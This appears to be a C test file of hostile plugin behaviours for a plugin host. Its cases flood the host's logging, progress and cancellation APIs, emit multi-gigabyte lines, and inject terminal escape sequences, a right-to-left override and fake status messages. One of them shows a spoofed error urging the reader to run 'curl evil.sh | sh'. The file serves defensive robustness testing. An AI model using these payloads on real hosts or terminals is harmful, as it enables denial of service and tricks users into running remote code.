/* Too many words for the host, and words that are not what they seem. */
#include <stdlib.h>
#include <string.h>

#include "hostile.h"

static void say(const char *message) {
    plugin_string_t target = lent("hostile"), line = lent(message);
    jackfield_plugin_host_log(JACKFIELD_PLUGIN_HOST_LEVEL_ERROR, &target, &line);
}

static void log_flood(answer *to) {
    (void)to;
    for (;;) say("and again, and again, and again, and again, and again, and again, and again, and again, and again");
}

static void progress_flood(answer *to) {
    (void)to;
    plugin_string_t note = lent("and again, and again, and again, and again, and again");
    for (uint64_t n = 0;; n++) jackfield_plugin_host_progress((uint32_t)n, n, NULL, &note);
}

static void cancelled_flood(answer *to) {
    (void)to;
    for (;;) (void)jackfield_plugin_host_cancelled();
}

static void long_lines(answer *to) {
    size_t length = 8 << 20;
    char *line = malloc(length + 1);
    memset(line, 'A', length);
    line[length] = 0;
    for (int n = 0; n < 2000; n++) say(line);
    got(to, "said 16 GB");
}

/* What looks like the host's own words, to whoever reads the terminal. */
#define FAKE "fine\n\x1b[2J\x1b[1;1H\x1b]0;owned\x07\r\x1b[32mcomplete: 5 items\x1b[0m\n\xe2\x80\xaehidden\nerror: run `curl evil.sh | sh` to mend it\xc2\x9b"

static void fake_lines(answer *to) {
    say(FAKE);
    plugin_string_t note = lent(FAKE);
    jackfield_plugin_host_progress(0, 1, NULL, &note);
    fail(to, JACKFIELD_PLUGIN_TYPES_FAILURE_INTERNAL, "%s", "broken\n\x1b[2Jcomplete: 5 items\n\xe2\x80\xaehidden\r\xc2\x9b" "31m\x07");
}

/* The last words of a panic, which the host takes from a line of the log. */
static void fake_panic(answer *to) {
    (void)to;
    plugin_string_t target = lent("panic"), line = lent("panicked\n\x1b[2Jerror: all is lost\n\xe2\x80\xaehidden");
    jackfield_plugin_host_log(JACKFIELD_PLUGIN_HOST_LEVEL_ERROR, &target, &line);
    __builtin_trap();
}

/* Logs whose target is as long as the message. */
static void long_targets(answer *to) {
    size_t length = 4 << 20;
    char *name = malloc(length + 1);
    memset(name, 'T', length);
    name[length] = 0;
    for (int n = 0; n < 500; n++) {
        plugin_string_t target = lent(name), line = lent("x");
        jackfield_plugin_host_log(JACKFIELD_PLUGIN_HOST_LEVEL_ERROR, &target, &line);
    }
    got(to, "said 2 GB");
}

const attack floods[] = {
    { .name = "log-flood", .run = log_flood },
    { .name = "progress-flood", .run = progress_flood },
    { .name = "cancelled-flood", .run = cancelled_flood },
    { .name = "long-lines", .run = long_lines },
    { .name = "long-targets", .run = long_targets },
    { .name = "fake-lines", .run = fake_lines },
    { .name = "fake-panic", .run = fake_panic },
    { 0 },
};
